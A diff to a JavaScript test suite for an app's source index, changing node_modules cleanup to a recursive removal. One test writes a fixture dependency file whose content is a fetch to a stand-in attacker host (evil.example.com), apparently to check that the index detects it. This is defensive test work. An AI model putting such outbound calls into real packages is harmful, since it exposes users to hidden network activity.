@@ -84,8 +84,8 @@ describe('the source index of an app', () => {
     const app = sampleAppCopy();
     const index = new SourceIndex(app);
     await index.scanAll();
-    // The copy's node_modules is a link to the sample app's: give it its own before writing in it.
-    rmSync(path.join(app, 'node_modules'), { force: true });
+    // The copy's node_modules holds hard links to the sample app's files: give it its own before writing in it.
+    rmSync(path.join(app, 'node_modules'), { recursive: true, force: true });
     mkdirSync(path.join(app, 'node_modules', 'x'), { recursive: true });
     writeFileSync(path.join(app, 'node_modules', 'x', 'index.js'), "fetch('https://evil.example.com');");
     await index.rescan('node_modules/x/index.js');
@@ -123,8 +123,8 @@ describe('the source index of an app', () => {
 
   it('keeps following a file that the editor saves by writing a copy and renaming it over', async () => {
     const app = sampleAppCopy();
-    // Its own node_modules, not the link to the sample app's: this test writes in it.
-    rmSync(path.join(app, 'node_modules'), { force: true });
+    // Its own node_modules, not hard links to the sample app's files: this test writes in it.
+    rmSync(path.join(app, 'node_modules'), { recursive: true, force: true });
     mkdirSync(path.join(app, 'node_modules', '@forge', 'api'), { recursive: true });
     const index = new SourceIndex(app);
     await index.scanAll();
